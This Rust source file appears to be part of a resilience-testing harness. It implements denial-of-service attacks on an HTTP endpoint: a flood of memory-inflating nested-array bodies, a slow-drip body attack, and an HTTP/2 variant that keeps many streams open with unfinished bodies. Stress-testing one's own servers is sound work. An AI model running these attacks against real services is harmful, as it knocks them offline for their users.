//! Attacks by bodies that are as large as they may be: sent at once, slowly, or never to their end.

use std::time::Duration;

use bytes::Bytes;
use tokio::{task::JoinSet, time::sleep};

use super::writes::filled;
use crate::{
    attacker::{Attacker, CONNECTIONS},
    connection::Request,
};

/// What comes late of a body.
const LATE: usize = 60;
/// HTTP/2 connections, and requests at once on each.
const HTTP2: (usize, usize) = (8, 100);

/// A request with a body that takes far more memory once it is parsed.
fn arrays() -> Request {
    Request::post("/v4/car", filled("[", "[]", "]"))
}

pub(super) async fn flood(attacker: Attacker) {
    attacker.begin().await;
    let body = arrays().body;
    attacker.flood(move |_, _| Request::post("/v4/car", body.clone())).await;
}

pub(super) async fn dripping(attacker: Attacker) {
    attacker.begin().await;
    let work = |attacker: Attacker, _| async move {
        let request = attacker.bytes(&arrays());
        let (most, late) = request.split_at(request.len() - LATE);
        loop {
            let mut connection = attacker.open().await;
            let mut sent = connection.send(most).await;
            for byte in late {
                if sent.is_err() {
                    break;
                }
                sleep(Duration::from_secs(1)).await;
                sent = connection.send(&[*byte]).await;
            }
            match connection.answer().await {
                Ok(answer) => attacker.count(&answer.status.to_string()),
                Err(_) => attacker.count("closed"),
            }
        }
    };
    attacker.at_once(CONNECTIONS, work).await;
}

pub(super) async fn over_http2(attacker: Attacker) {
    attacker.begin().await;
    let body = Bytes::from(arrays().body);
    let work = |attacker: Attacker, _| {
        let body = body.clone();
        async move {
            loop {
                let stream = attacker.connect(None).await;
                let Ok((requests, connection)) = h2::client::handshake(stream).await else {
                    attacker.count("closed");
                    continue;
                };
                let mut tasks = JoinSet::new();
                for _ in 0..HTTP2.1 {
                    tasks.spawn(streams(attacker.clone(), requests.clone(), body.clone()));
                }
                drop(connection.await);
                attacker.count("closed");
            }
        }
    };
    attacker.at_once(HTTP2.0, work).await;
}

/// Sends one request after the other on a connection, each without the end of its body, until the connection ends.
async fn streams(attacker: Attacker, requests: h2::client::SendRequest<Bytes>, body: Bytes) {
    while let Ok(mut requests) = requests.clone().ready().await {
        let request = http::Request::post("http://test/v4/car")
            .header("x-auth-token", attacker.token())
            .header("content-length", body.len())
            .body(())
            .expect("the parts are valid");
        let Ok((answer, mut sender)) = requests.send_request(request, false) else { return };
        // What the server does not take yet waits in the connection.
        drop(sender.send_data(body.slice(..body.len() - LATE), false));
        match answer.await {
            Ok(answer) => attacker.count(answer.status().as_str()),
            Err(_) => attacker.count("reset"),
        }
    }
}
